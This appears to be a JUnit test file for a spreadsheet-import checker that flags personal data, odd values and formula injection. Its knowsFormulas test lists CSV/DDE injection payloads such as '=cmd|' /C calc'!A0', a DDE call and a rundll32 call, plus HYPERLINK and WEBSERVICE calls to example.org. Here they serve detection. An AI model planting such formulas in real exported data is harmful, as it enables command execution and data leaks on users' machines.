// SPDX-License-Identifier: EPL-2.0
package org.broadsheet.core.content;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;

import org.broadsheet.core.imports.ScannedTable;
import org.broadsheet.core.issues.Fix;
import org.broadsheet.core.issues.Issue;
import org.broadsheet.core.table.TableSpool;
import org.broadsheet.core.types.CellClass;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Findings about content name the column, its first row and line, the text and a repair; ordinary columns give none. In the texts / parts cells. */
class ContentIssuesTest {

	@TempDir
	Path folder;

	private List<Issue> issues(List<String> names, List<List<String>> rows) throws IOException {
		try (TableSpool spool = new TableSpool(folder, names.size())) {
			int line = 2;
			for (List<String> row : rows) {
				spool.add(row, line++);
			}
			try (ScannedTable table = spool.finish(List.of(), names, List.of())) {
				return new ArrayList<>(table.issues());
			}
		}
	}

	private List<Issue> column(String name, String cells) throws IOException {
		List<List<String>> rows = new ArrayList<>();
		for (String cell : cells.split("/")) {
			rows.add(List.of(cell));
		}
		return issues(List.of(name), rows);
	}

	@ParameterizedTest
	@CsvSource(delimiter = '!', quoteCharacter = '~', value = { "SSN! 123-45-6789/078-05-1120! personal-data! 1! hide-column", "Id! 123-45-6789/078-05-1120! personal-data! 1! hide-column",
			"First Name! Ann/Bob/María! personal-data! 1! hide-column", "patientName! Ann Lee/Bob Ray! personal-data! 1! hide-column", "Date of Birth! 1980-01-02/1991-03-04! personal-data! 1! hide-column",
			"DOB! 19800102/19910304/20010506! personal-data! 1! hide-column", "Owner! Lee, Ann/Bob Ray/O'Neil-Smith, Jo B.! personal-data! 1! hide-column",
			"Phone! (860) 555-0123/(860) 555-0199! personal-data! 1! hide-column", "Contact! jo.smith@example.org/b@example.org! personal-data! 1! hide-column",
			"Overdose Deaths! 120/3/15/77! small-cells! 2! ", "Students! 12/450/5! small-cells! 3! ", "Male! 120/5/1204! small-cells! 2! ", "Note! plain/=HYPERLINK(\"x\")! formula-injection! 2! ",
			"ZIP Code! 6103/6105/10001! lost-leading-zeros! 1! pad-zeros", "County FIPS! 9001/9003/36001! lost-leading-zeros! 1! pad-zeros", "Date Opened! 45000/45123/44001! serial-dates! 1! serial-dates",
			"Parcel! 1234567890123/1.23457E+12/1234567890124! scientific-notation! 2! ", "Latitude! 41.5/41.6/141.7/41.8/41.9/42! out-of-range! 3! ", "Year! 2019/2020/20201/2021/2022/2023! out-of-range! 3! ",
			"Amount! 1/2/3/4/5/NA/NA/NA! read-as-empty! 0! replace-value", "Amount! 1/2/-/4/5/6/NA/NA/NA/-/-! read-as-empty! 0! ", "Blank! //! empty-column! 0! hide-column",
			"Score! 12/9999/7/9999/30! placeholder-value! 2! set-type", "Depth! -999/1.5/-999/2.5! placeholder-value! 1! set-type", "Ended! 2024-01-02/9999-12-31/2024-01-03/9999-12-31! placeholder-value! 2! set-type", "Ended! 2024-01-02 10:00/1899-12-30 00:00:00/1899-12-30 00:00:00! placeholder-value! 2! set-type",
			"is_open! 0/1/0/1/1! other-reading! 0! set-type", "Speed! 12 km/15 km/17 km! other-reading! 0! set-type" })
	void findsContent(String name, String cells, String code, int row, String fix) throws IOException {
		List<Issue> issues = column(name, cells.equals("//") ? " / / " : cells);
		assertEquals(List.of(code), issues.stream().map(Issue::code).toList(), issues::toString);
		Issue issue = issues.getFirst();
		assertTrue(ContentIssues.CODES.contains(code), code);
		assertEquals(row, issue.row());
		assertEquals(row == 0 ? 0 : row + 1, issue.line());
		assertEquals(name, issue.column());
		assertTrue(issue.message().endsWith("."), issue.message());
		assertEquals(fix == null ? List.of() : List.of(fix), issue.fixes().stream().map(Fix::id).toList());
	}

	/** Numbers like these that are near the others are numbers. */
	@ParameterizedTest
	@ValueSource(strings = { "999/1200/999/850", "9999/9998/9999/12000", "12/9999/7", "2024-01-02/9999-12-31/2024-01-03", "-999/-1200/-999/-500" })
	void whatIsNearTheOthersStandsForItself(String cells) throws IOException {
		assertEquals(List.of(), column("Amount", cells).stream().map(Issue::code).toList());
	}

	@Test
	void wordsForMissingValuesInManyColumnsAreOneFinding() throws IOException {
		List<List<String>> rows = new ArrayList<>();
		for (int i = 0; i < 12; i++) {
			String text = i % 3 == 0 ? "NA" : String.valueOf(i);
			rows.add(List.of(text, text, text, i == 5 ? "NA" : text));
		}
		List<Issue> issues = issues(List.of("A", "B", "C", "D"), rows);
		assertEquals("\"NA\" in 4 columns, such as \"A\", \"B\", \"C\", are read as empty, as the table has such words where a value is missing; change how a column is read if they mean something else.",
				issues.getFirst().message());
		assertEquals(1, issues.size());
	}

	@ParameterizedTest
	@CsvSource(delimiter = '!', quoteCharacter = '~', value = { "Town! Avon/Kent", "Amount! -5/-12.50/3", "Change! +1/-2/+3", "Parcel! 12-345-6789/12-345-6780", "Project Name! Roof/Deck", "Rate per 1000 people! 1/2/3", "Grade! A/B",
			"ZIP! 06103/06105", "Date! 2024-01-01/2024-01-02", "Office! info@example.org/press@example.org", "Remark! - one/- two (see above)", "Separator! ====/----", "Reading! 1.5E-7/2.0E-3", "Latitude! 41.5/42",
			"Handle! @town/@state", "Vendor Name! Acme/Bolt", "Number of bedrooms! 1/2/3", "Fiscal Year! 2023/2024", "Female! 0/1/1/0", "Children! 0/2/3/1/5", "Play Count! 1/3/250", "Sex of victim! White/Black", "Parents! degree/no degree",
			"Victim! White/Black/White", "Month! 0/1/3/6/0/1/3/6", "Year! 1565/1570/2019", "Smile! =)/=;-)/=|", "Tweet! @town great fight!Congratulations/@kent wow!ok", "Emoji! \uD83D\uDC68\u200D\uD83D\uDC67/b" })
	void saysNothingOfOrdinaryColumns(String name, String cells) throws IOException {
		assertEquals(List.of(), column(name, cells));
	}

	@ParameterizedTest
	@ValueSource(strings = { "=1+1", "=SUM(A1:A9)", "=HYPERLINK(\"http://example.org?x=\"&A1,\"click\")", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "=WEBSERVICE(\"http://example.org\")",
			"=IMPORTXML(CONCAT(\"http://example.org\"),\"//a\")", "\t=1+1", "\r=1+1", "='C:/a.xls'!A1", "=(1+2)", "={1}", "=@A1", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=-2+3", "=+A1", "+SUM(A1:A2)", "-SUM(A1:A2)", "=2+5+cmd|' /C calc'!A0", "=rundll32|'URL.dll,OpenURL calc.exe'!A",
			"@AVERAGE(A1)", "=\"00123\"" })
	void knowsFormulas(String text) {
		assertEquals(CellClass.FORMULA, CellClass.of(text));
	}

	@ParameterizedTest
	@ValueSource(strings = { "-5", "+5", "-1,234.50", "+1 860 555 0123", "-", "--", "===", "= see above", "@home", "-5 to 10", "+/- 3", "-$12.50", "=>", "- a (b)" })
	void whatIsNoFormulaIsNone(String text) {
		assertNotEquals(CellClass.FORMULA, CellClass.of(text));
	}
}
